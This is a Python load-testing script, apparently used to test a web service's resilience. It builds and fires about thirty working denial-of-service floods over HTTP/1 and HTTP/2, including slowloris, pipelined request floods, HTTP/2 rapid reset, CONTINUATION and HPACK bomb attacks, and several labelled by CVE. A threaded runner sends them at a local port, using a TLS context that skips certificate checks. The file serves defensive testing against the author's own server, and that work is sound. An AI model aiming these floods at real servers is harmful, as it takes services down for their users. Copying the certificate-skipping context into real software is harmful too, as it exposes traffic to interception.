"""The floods that servers have been felled with, each by its name, as bytes: what `hostile.py` sends.

As a program, `floods.py NAME PORT SECONDS CONNECTIONS` attacks from that many connections at once, nicely (`nice 19`):
what a server does is to be seen, not who gets the processor. Prints how many connections it took.

An attack opens a connection, sends its beginning once and its rest over and over, as fast as it is taken, and opens the
next connection when that one is closed. The HTTP/2 ones are those known since 2019 (CVE numbers are in their names).
"""

from __future__ import annotations

import os
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass
from functools import cache
from itertools import repeat
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST: Final = b"\x82\x87\x44\x02/x\x41\x01x"
"""The head of `GET https://x/x`, which is not there."""

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
INITIAL_WINDOW_SIZE: Final = 4


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body


@dataclass(frozen=True)
class Flood:
    """`rest` gives the pieces that follow `beginning` on one connection. `reads`: whether answers are read.

    `pause_s`: between pieces. `record`: bytes of each TLS record, 0 for as many as fit. `waits`: for something to read
    after each piece.
    """

    name: str
    rest: Callable[[], Iterator[bytes]]
    beginning: bytes = b""
    tls: bool = False
    reads: bool = True
    pause_s: float = 0.0
    record: int = 0
    waits: bool = False


def http1(name: str, piece: bytes, beginning: bytes = b"", *, reads: bool = True, pause_s: float = 0.0) -> Flood:
    """The same piece over and over."""
    return Flood(name, lambda: repeat(piece), beginning, reads=reads, pause_s=pause_s)


def http2(name: str, piece: bytes, beginning: bytes = b"", *, settings: bytes = b"", reads: bool = True) -> Flood:
    """The same frames over and over, behind a proper start."""
    return Flood(name, lambda: repeat(piece), PREFACE + frame(SETTINGS, 0, 0, settings) + beginning, True, reads)


def streams(name: str, of: Callable[[int], bytes], *, settings: bytes = b"", reads: bool = True) -> Flood:
    """Frames of stream after stream."""
    rest = lambda: (b"".join(map(of, range(first, first + 128, 2))) for first in range(1, 1 << 31, 128))  # noqa: E731
    return Flood(name, rest, PREFACE + frame(SETTINGS, 0, 0, settings), True, reads)


def asking(target: str) -> bytes:
    """A request over HTTP/1."""
    return f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode()


NOBODY = "/ping/99999999-0000-4000-8000-000000000009"
SHUT = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
BOMB = b"\x82\x87\x44\x01/\x40\x01x\x7f\xe1\x1e" + b"x" * 4000 + b"\xbe" * 12_000
"""A header of 4000 bytes, and 12,000 references to it, of one byte each."""


def opened(stream: int) -> bytes:
    """A whole request on `stream`."""
    return frame(HEADERS, 5, stream, REQUEST)


def open_ended(stream: int) -> bytes:
    """A request whose body will follow."""
    return frame(HEADERS, 4, stream, REQUEST)


FLOODS: Final = [
    http1("nothing (for comparison)", b"", pause_s=0.1),
    http1("pipelined: 404", asking("/x") * 500),
    http1("pipelined: status page", asking("/api/v3/status/") * 500),
    http1("pipelined: API without a key (401)", asking("/api/v3/checks/") * 500),
    http1("pipelined: pings of unknown checks", asking(NOBODY) * 500),
    http1("pipelined, answers unread", asking("/api/v3/status/") * 500, reads=False),
    Flood("one request at a time, without pause", lambda: repeat(asking("/x")), waits=True),
    http1(
        "body in chunks of one byte",
        b"1\r\nx\r\n" * 5000,
        f"POST {NOBODY} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(),
    ),
    http1(
        "body abandoned",
        b"",
        f"POST {NOBODY} HTTP/1.1\r\nHost: x\r\nContent-Length: 900000\r\n\r\n".encode() + bytes(60_000),
        pause_s=60,
    ),
    http1("slowloris", b"X: y\r\n", b"GET / HTTP/1.1\r\n", pause_s=0.2),
    http1("garbage", b"\x00\xff" * 8000 + b"\r\n\r\n"),
    Flood("connect and go", lambda: iter(())),
    Flood("TLS: shake hands and go", lambda: iter(()), tls=True),
    Flood("TLS: records of one byte", lambda: repeat(asking("/x") * 100), tls=True, record=1),
    http2("HTTP/2: data dribble (CVE-2019-9511)", frame(WINDOW, 0, 1, b"\0\0\0\1") * 500, opened(1), settings=SHUT),
    http2("HTTP/2: ping flood (CVE-2019-9512)", frame(PING, 0, 0, bytes(8)) * 500),
    http2(
        "HTTP/2: resource loop (CVE-2019-9513)",
        b"".join(
            frame(PRIORITY, 0, n, struct.pack(">IB", (n * 7919) % 2401 | 1 if n != 1 else 0, 15))
            for n in range(1, 2401, 2)
            if (n * 7919) % 2401 | 1 != n
        ),
    ),
    streams("HTTP/2: reset flood (CVE-2019-9514)", lambda n: opened(n) + frame(DATA, 0, n, b"x")),
    http2("HTTP/2: settings flood (CVE-2019-9515)", frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500),
    streams(
        "HTTP/2: 0-length headers (CVE-2019-9516)", lambda n: frame(HEADERS, 5, n, REQUEST + b"\x00\x00\x00" * 100)
    ),
    streams("HTTP/2: internal data buffering (CVE-2019-9517)", opened, reads=False),
    http2("HTTP/2: empty frames (CVE-2019-9518)", frame(DATA, 0, 1) * 1000, open_ended(1)),
    http2("HTTP/2: frames of one byte", frame(DATA, 0, 1, b"x") * 1000, open_ended(1)),
    streams("HTTP/2: window shut", opened, settings=SHUT),
    streams("HTTP/2: rapid reset (CVE-2023-44487)", lambda n: opened(n) + frame(RESET, 0, n, b"\0\0\0\x08")),
    streams("HTTP/2: made you reset (CVE-2025-8671)", lambda n: opened(n) + frame(WINDOW, 0, n, b"\x7f\xff\xff\xff")),
    http2(
        "HTTP/2: CONTINUATION flood",
        frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 20) * 100,
        frame(HEADERS, 1, 1, REQUEST),
    ),
    streams("HTTP/2: HPACK bomb", lambda n: frame(HEADERS, 5, n, BOMB[:16_000])),
    http2("HTTP/2: on and on after an error", bytes(65_536), frame(DATA, 0, 0, b"x")),
    http2("HTTP/2: frames of unknown kinds", frame(0xF0, 0, 0) * 1000),
    streams("HTTP/2: requests without pause", opened),
]


def connected(port: int, *, tls: bool, http2: bool) -> socket.socket:
    """A connection to attack; raises `OSError`."""
    plain = socket.create_connection(("127.0.0.1", port), 5)
    return trusting(http2).wrap_socket(plain) if tls else plain


@cache
def trusting(http2: bool) -> ssl.SSLContext:
    """What takes any certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if http2:
        context.set_alpn_protocols(["h2"])
    return context


def attack(flood: Flood, port: int, seconds: float) -> int:
    """Flood from one connection after another; how many there were."""
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with suppress(OSError), connected(port, tls=flood.tls, http2=PREFACE in flood.beginning) as connection:
            count += 1
            connection.setblocking(False)
            pour(flood, connection, end)
    return count


def pour(flood: Flood, connection: socket.socket, end: float) -> None:
    """Send all of it, and read if that is part of it, until the other side closes."""
    send(connection, flood.beginning, flood, end)
    for piece in flood.rest():
        if time.monotonic() > end:
            return
        send(connection, piece, flood, end)
        if flood.waits:
            select.select([connection], [], [], max(0.0, end - time.monotonic()))
        if flood.pause_s:
            select.select([], [], [], min(flood.pause_s, max(0.0, end - time.monotonic())))


def send(connection: socket.socket, what: bytes, flood: Flood, end: float) -> None:
    """Send `what`, piece by piece, reading in between; raises `OSError` when the other side has closed."""
    left = memoryview(what)
    while time.monotonic() < end:
        blocked = True
        with suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            if left:
                left = left[connection.send(left[: flood.record or len(left)]) :]
                blocked = False
        with suppress(BlockingIOError, ssl.SSLWantReadError):
            if flood.reads and not connection.recv(1 << 16):
                raise ConnectionResetError
        if not left:
            return
        if blocked:
            select.select([connection] if flood.reads else [], [connection], [], 0.1)


def main() -> None:
    """Attack."""
    name, port, seconds, connections = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    os.nice(19)
    (flood,) = (each for each in FLOODS if each.name == name)
    with ThreadPoolExecutor(connections) as threads:
        print(sum(threads.map(lambda _: attack(flood, port, seconds), range(connections))))


if __name__ == "__main__":
    main()
